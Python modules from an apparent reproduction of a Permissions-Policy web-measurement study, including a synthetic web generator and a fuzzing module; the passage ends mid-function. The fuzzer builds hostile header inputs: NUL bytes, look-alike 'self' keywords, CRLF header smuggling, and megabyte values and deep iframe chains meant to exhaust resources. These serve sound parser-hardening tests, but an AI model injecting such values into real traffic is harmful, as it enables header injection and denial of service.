        ScriptArchetype(
            "push-full", 0.04, url="https://cdn.pushprovider.example/sdk.js",
            dynamic=("notifications",), status_checks=("notifications",)),
        ScriptArchetype(
            "push-lite", 0.05, url="https://cdn.webpushcloud.example/push.js",
            dynamic=("notifications",), obfuscated=True),
        ScriptArchetype(
            "fingerprint", 0.055, url="https://cdn.fpcdn.example/fp.js",
            dynamic=("battery",), obfuscated=True),
        ScriptArchetype(
            "antibot-probe", 0.0125,
            url="https://challenge.antibot.example/check.js",
            status_checks=("microphone", "camera", "midi", "push")),
        ScriptArchetype(
            "auction-check", 0.0127,
            url="https://securepubads.doubleclick.net/auction.js",
            status_checks=("run-ad-auction",), obfuscated=True),
        ScriptArchetype(
            "video-cdn", 0.0025, url="https://cdn.videoplatform.example/eme.js",
            dynamic=("encrypted-media",)),
        ScriptArchetype(
            "keyboard-fp", 0.0007, url="https://cdn.fpcdn.example/kbd.js",
            dynamic=("keyboard-map",), obfuscated=True),
        ScriptArchetype(
            "geo-3p", 0.004, url="https://cdn.geoip.example/locate.js",
            status_checks=("geolocation",)),
        ScriptArchetype(
            "deep-prober", 0.0012,
            url="https://challenge.antibot.example/deep.js",
            status_checks=("camera", "microphone", "geolocation", "midi",
                           "push", "notifications", "payment", "usb",
                           "serial", "hid", "bluetooth", "storage-access",
                           "clipboard-read", "clipboard-write",
                           "display-capture", "accelerometer", "gyroscope",
                           "magnetometer", "ambient-light-sensor",
                           "screen-wake-lock", "idle-detection",
                           "local-fonts", "window-management",
                           "xr-spatial-tracking", "keyboard-map",
                           "keyboard-lock", "compute-pressure", "gamepad",
                           "web-share", "battery", "speaker-selection",
                           "pointer-lock", "encrypted-media"),
            obfuscated=True),
        # -- first-party dynamic (unconditional rates) --------------------------
        ScriptArchetype("own-geolocation", 0.0045, dynamic=("geolocation",),
                        gated=False),
        ScriptArchetype("own-geo-check", 0.004,
                        status_checks=("geolocation",), gated=False),
        ScriptArchetype("webauthn", 0.007,
                        dynamic=("publickey-credentials-get",), gated=False),
        ScriptArchetype("own-notifications", 0.0069,
                        dynamic=("notifications",), gated=False),
        ScriptArchetype("own-battery", 0.005, dynamic=("battery",),
                        gated=False),
        ScriptArchetype("own-keyboard", 0.0005, dynamic=("keyboard-map",),
                        gated=False),
        ScriptArchetype("own-payment", 0.0003, dynamic=("payment",),
                        gated=False),
        ScriptArchetype("own-general", 0.005, general_api=True, gated=False,
                        obfuscated=True),
        ScriptArchetype("own-eme", 0.0008, dynamic=("encrypted-media",),
                        gated=False),
    )


def default_static_archetypes() -> tuple[ScriptArchetype, ...]:
    """Static-only archetypes; rates conditional on the static-rich gate."""
    return (
        ScriptArchetype("share-clip", 0.25, static=("clipboard-write",),
                        gated=False),
        ScriptArchetype("share-full", 0.155,
                        static=("clipboard-write", "web-share"), gated=False),
        ScriptArchetype(
            "storage-cmp", 0.31,
            url="https://cdn.cmpstatic.example/storage.js",
            static=("storage-access",), gated=False),
        ScriptArchetype("store-locator", 0.28, static=("geolocation",),
                        gated=False),
        ScriptArchetype("notif-banner", 0.26, static=("notifications",),
                        gated=False),
        ScriptArchetype("battery-saver", 0.19, static=("battery",),
                        gated=False),
        ScriptArchetype(
            "topics-helper", 0.15,
            url="https://cdn.adstatic.example/topics-helper.js",
            static=("browsing-topics",), gated=False),
        ScriptArchetype("video-player", 0.13, static=("encrypted-media",),
                        gated=False),
        ScriptArchetype("webrtc-support", 0.08,
                        static=("camera", "microphone"), gated=False),
    )
