"""Adversarial corpus: hostile header/attribute/content generation.

The paper's crawl met the real web, which serves garbage: headers with NUL
bytes, megabyte header values, unbalanced quotes, unicode confusables that
*look* like ``self`` but are not, and iframe chains nested absurdly deep.
This module generates that hostility deterministically so the whole
pipeline can be fuzzed reproducibly (DESIGN.md §4g):

* :func:`hostile_values` — a seeded corpus of hostile header-value
  strings, used directly by the parser property tests (lenient mode must
  never raise on any of them; strict mode must raise exactly where it
  always did);
* :class:`HostileFetcher` — wraps any fetcher and deterministically
  injects hostile policy headers, oversized ``allow`` attributes,
  megabyte scripts and 100-deep local iframe chains into otherwise
  normal responses.  Injection is a pure function of ``(seed, url)``,
  and responses are mutated on *copies*, so serial, thread and process
  crawls over the same hostile web stay byte-identical;
* :class:`HostileFetcherSpec` — the picklable recipe that ships the
  wrapper to process-backend workers.

The corpus deliberately contains no lone UTF-16 surrogates: those cannot
cross ``sqlite3`` parameter binding or strict JSON, and the point of the
corpus is to exercise *our* hardening, not the standard library's
refusal.  Every value here survives ``json.dumps(..., ensure_ascii=True)``
and SQLite storage, which is exactly the boundary the pipeline guards.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace

from repro.browser.dom import DocumentContent, IframeElement
from repro.browser.page import Fetcher, FetchResponse
from repro.crawler.backends import FetcherSpec
from repro.crawler.fetcher import SyntheticFetcher
from repro.synthweb.generator import SyntheticWeb

#: Characters that render like policy keywords but are different code
#: points (cyrillic es/ie, fullwidth asterisk, zero-width space …).
_CONFUSABLES = "ѕеⅼf∗​﻿самera"

_CONTROL = "\x00\x01\x08\x0b\x0c\x1b\x7f"


def _garbage_token(rng: random.Random, length: int) -> str:
    alphabet = ("abcdefghijklmnop=()*;,\"' \t" + _CONTROL + _CONFUSABLES
                + "\U0001f600‮")
    return "".join(rng.choice(alphabet) for _ in range(length))


def _value_nul(rng: random.Random, size: int) -> str:
    return f"camera=\x00(self), geo\x00location=*"


def _value_megabyte(rng: random.Random, size: int) -> str:
    origin = '"https://a%d.example" ' % rng.randrange(1000)
    body = origin * (size // len(origin) + 1)
    return f"geolocation=({body[:size]})"


def _value_unbalanced(rng: random.Random, size: int) -> str:
    return rng.choice([
        'camera=("https://unclosed.example',
        "microphone=((((((self",
        'geolocation=(self "a" "b', "fullscreen=)(",
        'camera="', "camera=(self))))",
    ])


def _value_confusable(rng: random.Random, size: int) -> str:
    return rng.choice([
        "camera=(ѕеⅼf)",               # cyrillic s/e + roman numeral l
        "саmera=*",                     # cyrillic es/a in the feature name
        "geolocation=(∗)",         # fullwidth-ish asterisk
        "camera=(self​)",          # zero-width space inside keyword
        "﻿camera=*",               # BOM prefix
        "camera=(self‮)*=arema",   # RTL override
    ])


def _value_control(rng: random.Random, size: int) -> str:
    return ("camera=(self)\r\nmicrophone=*"
            if rng.random() < 0.5 else
            "geo\tlocation\x0b=\x0c(self)\x1b[31m")


def _value_nested(rng: random.Random, size: int) -> str:
    depth = min(size, 2000)
    return "camera=" + "(" * depth + "self" + ")" * depth


def _value_huge_token(rng: random.Random, size: int) -> str:
    return "x" * min(size, 100_000) + "=*"


def _value_random(rng: random.Random, size: int) -> str:
    return _garbage_token(rng, rng.randrange(1, 200))


#: Strategy name → generator; names are stable so tests can freeze
#: per-strategy expectations.
STRATEGIES = {
    "nul": _value_nul,
    "megabyte": _value_megabyte,
    "unbalanced": _value_unbalanced,
    "confusable": _value_confusable,
    "control": _value_control,
    "nested": _value_nested,
    "huge-token": _value_huge_token,
    "random": _value_random,
}


def hostile_values(seed: int, count: int = 64, *,
                   payload_bytes: int = 4096) -> list[str]:
    """A deterministic corpus of ``count`` hostile header values.

    Cycles through every strategy so even small corpora cover all of
    them; ``payload_bytes`` sizes the oversized strategies (raise it to a
    megabyte for the full fuzz-smoke drill).
    """
    names = sorted(STRATEGIES)
    values = []
    for index in range(count):
        name = names[index % len(names)]
        rng = random.Random(f"{seed}:hostile-value:{index}")
        values.append(STRATEGIES[name](rng, payload_bytes))
    return values


@dataclass(frozen=True)
class HostileConfig:
    """Injection rates and sizes for :class:`HostileFetcher`.

    Rates are per response / per element and rolled deterministically
    from ``(seed, url)``; ``payload_bytes`` sizes the megabyte-class
    payloads (default 64 KiB keeps test crawls fast — the CI fuzz-smoke
    drill raises it).
    """

    seed: int = 0
    header_rate: float = 0.4
    fp_header_rate: float = 0.2
    allow_rate: float = 0.3
    script_rate: float = 0.15
    deep_iframe_rate: float = 0.1
    iframe_chain_depth: int = 100
    payload_bytes: int = 64 * 1024

    def __post_init__(self) -> None:
        for name in ("header_rate", "fp_header_rate", "allow_rate",
                     "script_rate", "deep_iframe_rate"):
            rate = getattr(self, name)
            if not 0.0 <= rate <= 1.0:
                raise ValueError(f"{name} must be in [0, 1]")
        if self.iframe_chain_depth < 1:
            raise ValueError("iframe_chain_depth must be >= 1")
        if self.payload_bytes < 1:
            raise ValueError("payload_bytes must be >= 1")


def deep_iframe_chain(depth: int) -> IframeElement:
    """A srcdoc iframe nesting ``depth`` local documents — the classic
    resource-exhaustion shape.  The loader's ``max_depth`` stops the
    traversal; building the chain itself is cheap."""
    content = DocumentContent()
    for _ in range(depth):
        content = DocumentContent(iframes=[IframeElement(
            srcdoc="<iframe>", local_content=content)])
    return IframeElement(srcdoc="<iframe>", local_content=content,
                         element_id="hostile-deep-chain")


class HostileFetcher:
    """Deterministically injects hostile input over any fetcher.

    Mutations are applied to copies of the fetched response — the inner
    fetcher may serve shared, memoized content that other visits must see
    pristine.  Real fetch failures propagate untouched; only successful
    responses are made hostile, so the failure taxonomy stays comparable
    with a clean crawl.
    """

    def __init__(self, inner: Fetcher,
                 config: HostileConfig | None = None) -> None:
        self.inner = inner
        self.config = config if config is not None else HostileConfig()
        #: Responses this fetcher made hostile (for test assertions).
        self.injected = 0

    def fetch(self, url: str) -> FetchResponse:
        response = self.inner.fetch(url)
        config = self.config
        rng = random.Random(f"{config.seed}:hostile:{url}")
        headers = None
        if rng.random() < config.header_rate:
            headers = dict(response.headers)
            headers["Permissions-Policy"] = self._pick_value(rng)
        if rng.random() < config.fp_header_rate:
            headers = dict(response.headers) if headers is None else headers
            headers["Feature-Policy"] = self._pick_value(rng)
        new_iframes = None
        content = response.content
        for index, iframe in enumerate(content.iframes):
            if rng.random() < config.allow_rate:
                if new_iframes is None:
                    new_iframes = list(content.iframes)
                new_iframes[index] = replace(iframe,
                                             allow=self._pick_value(rng))
        if rng.random() < config.deep_iframe_rate:
            if new_iframes is None:
                new_iframes = list(content.iframes)
            new_iframes.append(deep_iframe_chain(config.iframe_chain_depth))
        new_scripts = None
        for index, script in enumerate(content.scripts):
            if rng.random() < config.script_rate:
                if new_scripts is None:
                    new_scripts = list(content.scripts)
                pad = "/*" + "A" * config.payload_bytes + "*/"
                new_scripts[index] = replace(script,
                                             source=script.source + pad)
        if headers is None and new_iframes is None and new_scripts is None:
            return response
        self.injected += 1
        new_content = replace(
            content,
            scripts=new_scripts if new_scripts is not None
            else list(content.scripts),
            iframes=new_iframes if new_iframes is not None
            else list(content.iframes))
        return replace(response,
                       headers=headers if headers is not None
                       else dict(response.headers),
                       content=new_content)

    def _pick_value(self, rng: random.Random) -> str:
        names = sorted(STRATEGIES)
        name = names[rng.randrange(len(names))]
        return STRATEGIES[name](rng, self.config.payload_bytes)


@dataclass(frozen=True)
class HostileFetcherSpec(FetcherSpec):
    """Picklable recipe: hostile wrapper over the synthetic network, for
    the process backend (and anywhere else a spec is preferred)."""

    config: HostileConfig = HostileConfig()

    def build(self, web: SyntheticWeb) -> Fetcher:
        return HostileFetcher(SyntheticFetcher(web), self.config)
