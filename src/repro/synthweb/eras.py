"""Ecosystem eras: the Feature-Policy → Permissions-Policy transition.

The paper situates itself against Kaleli et al.'s 2020 Feature-Policy
measurement ("among the few websites using the header, most used it to turn
off features") and documents the 2024 state: the renamed header at 4.5 %
top-level adoption, Feature-Policy residual at 0.51 %, the ads APIs
(Topics, Attribution Reporting, Protected Audience) newly everywhere, and
FLoC (`interest-cohort`) already shipped *and* removed in between.

:func:`rates_for_era` produces generator configurations for three moments
of that timeline so the transition itself becomes measurable:

* ``2020`` — Feature-Policy only (the predecessor study's world): ~1 %
  FP-header adoption, no Permissions-Policy, no Privacy-Sandbox ads APIs;
* ``2022`` — the renaming mid-point: both headers in the wild, the FLoC
  opt-out wave (`interest-cohort=()`) at its peak;
* ``2024`` — the paper's measurement (the calibrated defaults).
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from enum import Enum

from repro.synthweb.distributions import GeneratorRates


class Era(str, Enum):
    Y2020 = "2020"
    Y2022 = "2022"
    Y2024 = "2024"


@dataclass(frozen=True)
class EraProfile:
    """Generator configuration plus era-specific behaviours."""

    era: Era
    rates: GeneratorRates
    #: Share of dynamic general-API calls using the deprecated spelling —
    #: 100 % before the rename, still ~99 % in the paper's data.
    deprecated_api_share: float
    #: Whether the Privacy-Sandbox ads APIs exist at all.
    ads_apis_available: bool
    #: Whether the single-permission FLoC opt-out wave is underway.
    floc_optout_wave: bool


def rates_for_era(era: Era) -> EraProfile:
    """The generator configuration for one ecosystem era."""
    base = GeneratorRates()
    if era is Era.Y2024:
        return EraProfile(era=era, rates=base, deprecated_api_share=0.99,
                          ads_apis_available=True, floc_optout_wave=False)
    if era is Era.Y2022:
        rates = replace(
            base,
            pp_header_rate=base.pp_header_rate * 0.45,
            fp_header_rate=base.fp_header_rate * 3.0,
            header_syntax_error_rate=base.header_syntax_error_rate * 1.4,
        )
        return EraProfile(era=era, rates=rates, deprecated_api_share=1.0,
                          ads_apis_available=False, floc_optout_wave=True)
    if era is Era.Y2020:
        rates = replace(
            base,
            pp_header_rate=0.0,                       # header did not exist
            fp_header_rate=0.011,                     # Kaleli-era adoption
            header_syntax_error_rate=0.0,             # nothing to misparse
        )
        return EraProfile(era=era, rates=rates, deprecated_api_share=1.0,
                          ads_apis_available=False, floc_optout_wave=False)
    raise ValueError(f"unknown era: {era!r}")


@dataclass(frozen=True)
class EraComparison:
    """Adoption across the modelled timeline (the transition curve)."""

    era: Era
    pp_top_level_share: float
    fp_top_level_share: float
    sites_delegating_share: float
    #: True union share of top frames sending *either* header, measured
    #: from the visits.  ``None`` only for hand-built comparisons that
    #: predate the field (JSON round-trips, older callers).
    any_header_top_level_share: "float | None" = None

    @property
    def any_header_share(self) -> float:
        """Share of top-level sites sending either header.

        The measured union when available; otherwise falls back to the
        historical approximation ``pp + fp`` — documented as such because
        it double-counts dual-header sites (2,302 of 1M in the paper) and
        can exceed 1.0 on heavily dual-headed inputs."""
        if self.any_header_top_level_share is not None:
            return self.any_header_top_level_share
        return self.pp_top_level_share + self.fp_top_level_share


def era_variant(era: Era) -> str:
    """The measurement-cache variant tag for one era's crawl."""
    return f"era{era.value}"


def era_context(era: Era, site_count: int = 3000, *, seed: int = 2024,
                workers: int = 4, backend: str | None = None,
                use_cache: bool | None = None, shards: int | None = None):
    """One era's measurement run as an
    :class:`~repro.experiments.runner.ExperimentContext`.

    Routed through :func:`~repro.experiments.runner.run_measurement`, so
    era crawls get the full measurement stack — disk cache (per-era
    variant entries), backend selection, sharding — instead of rebuilding
    the web from scratch on every call."""
    # Imported lazily: synthweb is a fingerprinted package and must not
    # import the experiment layer at module load.
    from repro.experiments.runner import run_measurement

    profile = rates_for_era(era)
    return run_measurement(site_count, seed=seed, workers=workers,
                           backend=backend, use_cache=use_cache,
                           shards=shards, rates=profile.rates,
                           variant=era_variant(era))


def measure_era(era: Era, site_count: int = 3000, *, seed: int = 2024,
                workers: int = 4,
                use_cache: bool | None = None) -> EraComparison:
    """Crawl (or cache-load) one era's web and summarise its adoption.

    Byte-identical to the historical direct ``CrawlerPool(...).run()``
    path (asserted in ``tests/test_eras.py``), but served through the
    measurement cache so repeated transition curves reuse the stored
    crawl instead of regenerating three webs."""
    ctx = era_context(era, site_count, seed=seed, workers=workers,
                      use_cache=use_cache)
    visits = ctx.dataset.successful()
    headers = ctx.headers
    top_docs = max(1, headers.top_level_documents)
    fp_top = any_top = 0
    for visit in visits:
        top = visit.top_frame
        has_fp = top.header("feature-policy") is not None
        fp_top += has_fp
        any_top += has_fp or top.header("permissions-policy") is not None
    return EraComparison(
        era=era,
        pp_top_level_share=headers.adoption().pp_top_level_share,
        fp_top_level_share=fp_top / top_docs,
        sites_delegating_share=ctx.delegation.share_sites_delegating,
        any_header_top_level_share=any_top / top_docs,
    )


def transition_curve(site_count: int = 3000, *, seed: int = 2024,
                     workers: int = 4,
                     use_cache: bool | None = None) -> list[EraComparison]:
    """Adoption measurements for the full 2020 → 2024 timeline."""
    return [measure_era(era, site_count, seed=seed, workers=workers,
                        use_cache=use_cache)
            for era in (Era.Y2020, Era.Y2022, Era.Y2024)]
