"""Synthetic web ecosystem.

The paper measures the live top-1M websites; offline we substitute a
deterministic generator calibrated to the paper's published marginals
(DESIGN.md Section 2).  The subpackage is organised as:

* :mod:`repro.synthweb.distributions` — every number the paper reports, as
  constants, plus the generator rates derived from them;
* :mod:`repro.synthweb.profiles` — embedded-widget profiles (YouTube,
  LiveChat, DoubleClick, Stripe, … — Tables 3, 7, 10, 13);
* :mod:`repro.synthweb.scripts_gen` — script archetypes: the third-party
  tag managers, ads, push and fingerprinting scripts plus the static-only
  share/geolocation/video functionality (Tables 4–6);
* :mod:`repro.synthweb.generator` — assembles per-site specifications,
  deterministic in ``(seed, rank)``.
"""

from repro.synthweb.distributions import GeneratorRates, PAPER, PaperMarginals
from repro.synthweb.eras import Era, measure_era, rates_for_era, transition_curve
from repro.synthweb.generator import SiteSpec, SyntheticWeb
from repro.synthweb.profiles import WidgetProfile, default_widget_profiles

__all__ = [
    "Era",
    "GeneratorRates",
    "PAPER",
    "PaperMarginals",
    "SiteSpec",
    "SyntheticWeb",
    "WidgetProfile",
    "default_widget_profiles",
    "measure_era",
    "rates_for_era",
    "transition_curve",
]
