"""Deterministic synthetic-web generation.

:class:`SyntheticWeb` plays the role of the live top-1M web: it knows a
ranked origin list (the CrUX-list equivalent) and can resolve any URL the
crawler asks for — top-level sites, widget documents, partner widgets and
generic embeds — into response headers plus document content.  Everything
is derived from ``(seed, rank)`` or ``(seed, url)`` so repeated crawls see
identical content, which is what makes the benchmark suite reproducible.

Per-site drawing order (all probabilities from
:class:`repro.synthweb.distributions.GeneratorRates` and the paper counts
embedded in :mod:`repro.synthweb.profiles` /
:mod:`repro.synthweb.scripts_gen`):

1. failure mode (DNS / timeout / ephemeral / excluded / none),
2. redirect behaviour,
3. top-level headers: Permissions-Policy (with the paper's template-size
   clusters and misconfiguration injection), Feature-Policy, CSP,
4. script archetypes behind the two coupled activity gates,
5. widget placements (ads widgets correlated through an ads gate),
6. partner delegator iframes, generic external embeds and local iframes.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from enum import Enum

from repro.browser.dom import DocumentContent, IframeElement
from repro.browser.scripts import Script
from repro.synthweb.distributions import PAPER, GeneratorRates
from repro.synthweb.profiles import (
    WidgetProfile,
    build_widget_script,
    default_widget_profiles,
)
from repro.synthweb.scripts_gen import (
    DYNAMIC_GATE_RATE,
    STATIC_GATE_GIVEN_DYNAMIC,
    STATIC_GATE_GIVEN_PLAIN,
    ScriptArchetype,
    default_archetypes,
    default_static_archetypes,
)


class FailureMode(str, Enum):
    """The paper's crawl-failure taxonomy (Section 4)."""

    NONE = "ok"
    EPHEMERAL = "ephemeral-content-error"
    TIMEOUT = "load-timeout"
    UNREACHABLE = "unreachable"
    MINOR = "minor-crawler-error"
    LATE_TIMEOUT = "final-update-timeout"
    EXCLUDED = "excluded-incomplete"


_TLDS: tuple[tuple[str, float], ...] = (
    ("com", 0.52), ("org", 0.08), ("net", 0.06), ("de", 0.06), ("io", 0.04),
    ("co.uk", 0.04), ("fr", 0.04), ("com.br", 0.03), ("ru", 0.03),
    ("it", 0.03), ("nl", 0.02), ("es", 0.02), ("co.jp", 0.02), ("pl", 0.01),
)

#: 18- and 9-permission disable templates — the copy-paste configurations
#: behind the paper's "most common number of permissions defined are 18,
#: 1 and 9" observation.
_TEMPLATE_18: tuple[str, ...] = (
    "accelerometer", "ambient-light-sensor", "autoplay", "battery", "camera",
    "display-capture", "encrypted-media", "fullscreen", "geolocation",
    "gyroscope", "interest-cohort", "magnetometer", "microphone", "midi",
    "payment", "sync-xhr", "usb", "xr-spatial-tracking",
)
_TEMPLATE_9: tuple[str, ...] = (
    "accelerometer", "camera", "geolocation", "gyroscope", "magnetometer",
    "microphone", "payment", "sync-xhr", "usb",
)
_SINGLE_FEATURE_MIX: tuple[tuple[str, float], ...] = (
    ("interest-cohort", 0.55), ("camera", 0.15), ("geolocation", 0.15),
    ("browsing-topics", 0.05), ("autoplay", 0.05), ("fullscreen", 0.05),
)
_CUSTOM_POOL: tuple[str, ...] = _TEMPLATE_18 + (
    "browsing-topics", "attribution-reporting", "clipboard-read",
    "clipboard-write", "gamepad", "hid", "serial", "bluetooth",
    "picture-in-picture", "publickey-credentials-get", "screen-wake-lock",
    "storage-access", "web-share", "idle-detection", "local-fonts",
    "keyboard-map", "window-management",
)

#: Partner-widget templates: (allow template, weight, dynamic permissions,
#: static permissions).  Partners use what they are delegated, keeping them
#: out of the over-permission tables while filling out Table 8's counts for
#: microphone, fullscreen and the sensors.
_PARTNER_TEMPLATES: tuple[tuple[str, float, tuple[str, ...], tuple[str, ...]], ...] = (
    ("camera; microphone", 0.18, (), ("camera", "microphone")),
    ("autoplay; fullscreen", 0.20, (), ("autoplay", "fullscreen")),
    ("payment", 0.08, ("payment",), ()),
    ("geolocation", 0.08, ("geolocation",), ()),
    ("microphone *; camera *; display-capture *", 0.08,
     (), ("microphone", "camera", "display-capture")),
    ("gyroscope; accelerometer; autoplay", 0.10,
     (), ("gyroscope", "accelerometer", "autoplay")),
    ("clipboard-write; web-share", 0.14,
     (), ("clipboard-write", "web-share")),
    ("autoplay; encrypted-media; picture-in-picture", 0.14,
     (), ("autoplay", "encrypted-media", "picture-in-picture")),
)


@dataclass
class WidgetPlacement:
    """One widget embedded on a site."""

    profile: WidgetProfile
    delegated: bool
    lazy: bool
    count: int = 1
    #: Some deployments copy the embed code with `*` appended to every
    #: feature — the convenience-over-security pattern behind the paper's
    #: 17.17 % wildcard directives.
    starify: bool = False
    use_rare_template: bool = False
    #: Per-placement salt appended to the embed URL so every placement is a
    #: distinct document (real embeds carry video ids / slot parameters);
    #: widget-internal randomness is keyed on the URL, so without the salt
    #: every placement of a widget would behave identically.
    salt: int = 0

    def iframe_elements(self) -> list[IframeElement]:
        allow = self.profile.allow_template if self.delegated else None
        if (self.delegated and self.use_rare_template
                and self.profile.allow_template_rare is not None):
            allow = self.profile.allow_template_rare
        if allow is not None and self.starify:
            allow = "; ".join(
                part.strip() if part.strip().endswith("*")
                else f"{part.strip()} *"
                for part in allow.split(";") if part.strip())
        return [
            IframeElement(
                src=f"{self.profile.embed_url}?e={self.salt}-{index}",
                allow=allow,
                loading="lazy" if self.lazy else "",
                element_id=f"{self.profile.name.lower()}-{index}",
            )
            for index in range(self.count)
        ]


@dataclass
class SiteSpec:
    """Everything the generator decided about one ranked site."""

    rank: int
    url: str
    host: str
    failure: FailureMode
    redirect_to: str | None
    headers: dict[str, str]
    header_template: str
    scripts: list[Script]
    widget_placements: list[WidgetPlacement]
    partner_iframes: list[IframeElement]
    generic_iframes: list[IframeElement]
    local_iframes: list[IframeElement]
    #: Number of same-origin subpages behind the landing page; visiting
    #: /p0../p{n-1} executes the functionality that is navigation-gated on
    #: the landing page (the paper's Section 6.1 landing-page limitation).
    subpage_count: int = 0

    @property
    def succeeded(self) -> bool:
        return self.failure is FailureMode.NONE

    def iframe_elements(self) -> list[IframeElement]:
        elements: list[IframeElement] = []
        for placement in self.widget_placements:
            elements.extend(placement.iframe_elements())
        elements.extend(self.partner_iframes)
        elements.extend(self.generic_iframes)
        elements.extend(self.local_iframes)
        return elements

    def content(self) -> DocumentContent:
        return DocumentContent(scripts=list(self.scripts),
                               iframes=self.iframe_elements())


class SyntheticWeb:
    """A deterministic, rank-ordered synthetic web (see module docstring).

    Args:
        site_count: Number of sites in the ranked list (the paper uses 1M;
            benchmarks default to a laptop-scale subset).
        seed: Master seed; everything is a pure function of (seed, rank).
        rates: Generator probabilities; defaults derive from the paper.
        profiles: Widget catalogue.
    """

    def __init__(self, site_count: int, *, seed: int = 2024,
                 rates: GeneratorRates | None = None,
                 profiles: tuple[WidgetProfile, ...] | None = None) -> None:
        if site_count <= 0:
            raise ValueError("site_count must be positive")
        self.site_count = site_count
        self.seed = seed
        self.rates = rates if rates is not None else GeneratorRates()
        self.profiles = (profiles if profiles is not None
                         else default_widget_profiles())
        self._profiles_by_host = {p.site: p for p in self.profiles}
        self._archetypes = default_archetypes()
        self._static_archetypes = default_static_archetypes()
        self._site_cache: dict[int, SiteSpec] = {}

    # -- site list (the CrUX-list equivalent) -----------------------------------

    def origins(self) -> list[str]:
        return [self.origin_for_rank(rank) for rank in range(self.site_count)]

    def origin_for_rank(self, rank: int) -> str:
        return f"https://{self.host_for_rank(rank)}"

    def host_for_rank(self, rank: int) -> str:
        rng = self._rng("host", rank)
        tld = _weighted(rng, _TLDS)
        return f"site-{rank:07d}.{tld}"

    def rank_for_host(self, host: str) -> int | None:
        if not host.startswith("site-"):
            return None
        try:
            return int(host.split(".", 1)[0][len("site-"):])
        except ValueError:
            return None

    # -- site generation ------------------------------------------------------------

    #: Bound on the site-spec memo.  Specs are pure functions of
    #: (seed, rank), so the cache is dropped wholesale when full (the same
    #: epoch-clear idiom as the policy engine's decision memo — safe under
    #: concurrent pool workers, a lost entry just regenerates).  Without a
    #: bound the memo grows ~3 KB per visited site and quietly dominates
    #: peak RSS on 100k+ crawls.
    _SITE_CACHE_MAX = 4096

    def site(self, rank: int) -> SiteSpec:
        """The (cached) specification of the site at ``rank``."""
        if rank < 0 or rank >= self.site_count:
            raise IndexError(f"rank {rank} outside [0, {self.site_count})")
        cached = self._site_cache.get(rank)
        if cached is None:
            if len(self._site_cache) >= self._SITE_CACHE_MAX:
                self._site_cache.clear()
            cached = self._generate_site(rank)
            self._site_cache[rank] = cached
        return cached

    def _rng(self, purpose: str, key: object) -> random.Random:
        return random.Random(f"{self.seed}:{purpose}:{key}")

    def _rank_adoption_multiplier(self, rank: int) -> float:
        """Security-header adoption skews towards popular sites; the
        multipliers are chosen to average ~1 over the full list so the
        global marginals stay calibrated."""
        percentile = rank / self.site_count
        if percentile < 0.02:
            return 1.9
        if percentile < 0.10:
            return 1.4
        if percentile < 0.40:
            return 1.05
        return 0.90

    def _generate_site(self, rank: int) -> SiteSpec:
        rng = self._rng("site", rank)
        host = self.host_for_rank(rank)
        url = f"https://{host}"
        failure = self._draw_failure(rng)
        redirect_to = None
        if rng.random() < self.rates.redirect_rate:
            redirect_to = (f"https://www.{host}/" if rng.random() < 0.7
                           else f"{url}/home")
        headers, template = self._draw_headers(
            rng, self._rank_adoption_multiplier(rank))
        scripts = self._draw_scripts(rng, host)
        placements = self._draw_widgets(rng)
        partner = self._draw_partner(rng)
        generic, local = self._draw_plain_iframes(rng, host, bool(placements))
        return SiteSpec(
            rank=rank, url=url, host=host, failure=failure,
            redirect_to=redirect_to, headers=headers,
            header_template=template, scripts=scripts,
            widget_placements=placements, partner_iframes=partner,
            generic_iframes=generic, local_iframes=local,
            subpage_count=rng.randint(2, 8),
        )

    def _draw_failure(self, rng: random.Random) -> FailureMode:
        roll = rng.random()
        rates = self.rates
        thresholds = (
            (rates.fail_ephemeral, FailureMode.EPHEMERAL),
            (rates.fail_timeout, FailureMode.TIMEOUT),
            (rates.fail_unreachable, FailureMode.UNREACHABLE),
            (rates.fail_minor, FailureMode.MINOR),
            (rates.fail_late_timeout, FailureMode.LATE_TIMEOUT),
            (rates.fail_excluded, FailureMode.EXCLUDED),
        )
        cumulative = 0.0
        for rate, mode in thresholds:
            cumulative += rate
            if roll < cumulative:
                return mode
        return FailureMode.NONE

    # -- headers -----------------------------------------------------------------------

    def _draw_headers(self, rng: random.Random,
                      adoption_multiplier: float = 1.0
                      ) -> tuple[dict[str, str], str]:
        headers: dict[str, str] = {"content-type": "text/html"}
        template = "none"
        if rng.random() < self.rates.csp_rate * adoption_multiplier:
            if rng.random() < self.rates.csp_frame_src_rate:
                headers["content-security-policy"] = (
                    "script-src 'self'; frame-src 'self' https:")
            else:
                headers["content-security-policy"] = (
                    "script-src 'self'; object-src 'none'")
        has_pp = rng.random() < (self.rates.pp_header_rate
                                 * adoption_multiplier)
        if has_pp:
            value, template = self._draw_pp_header(rng)
            headers["permissions-policy"] = value
        if rng.random() < self.rates.fp_header_rate:
            headers["feature-policy"] = (
                "camera 'none'; microphone 'none'; geolocation 'none'")
            if not has_pp:
                template = "feature-policy-only"
        return headers, template

    def _draw_pp_header(self, rng: random.Random) -> tuple[str, str]:
        roll = rng.random()
        if roll < PAPER.share_headers_with_18_permissions:
            features, template = list(_TEMPLATE_18), "disable-18"
        elif roll < (PAPER.share_headers_with_18_permissions
                     + PAPER.share_headers_with_9_permissions):
            features, template = list(_TEMPLATE_9), "disable-9"
        elif roll < (PAPER.share_headers_with_18_permissions
                     + PAPER.share_headers_with_9_permissions
                     + PAPER.share_headers_with_1_permission):
            features, template = [_weighted(rng, _SINGLE_FEATURE_MIX)], "single"
        else:
            size = min(64, max(2, int(rng.gauss(10, 6))))
            features = rng.sample(_CUSTOM_POOL, min(size, len(_CUSTOM_POOL)))
            template = "custom"
        directives = [
            f"{feature}={self._draw_directive_value(rng, feature, template)}"
            for feature in features
        ]
        value = ", ".join(directives)
        value = self._maybe_misconfigure(rng, value)
        return value, template

    def _draw_directive_value(self, rng: random.Random, feature: str,
                              template: str) -> str:
        if template in ("disable-18", "disable-9"):
            return "()"
        if template == "single" and feature == "interest-cohort":
            return "()"
        roll = rng.random()
        self_boost = 0.14 if feature in ("geolocation", "sync-xhr") else 0.0
        if roll < 0.49 - self_boost:
            return "()"
        if roll < 0.76:
            return "(self)"
        if roll < 0.95:
            return "*"
        if roll < 0.975:
            return '(self "https://trusted-partner.example")'
        return '(self "https://www.site-partner.example")'

    def _maybe_misconfigure(self, rng: random.Random, value: str) -> str:
        roll = rng.random()
        if roll < self.rates.header_syntax_error_rate:
            kind = rng.random()
            if kind < 0.5:
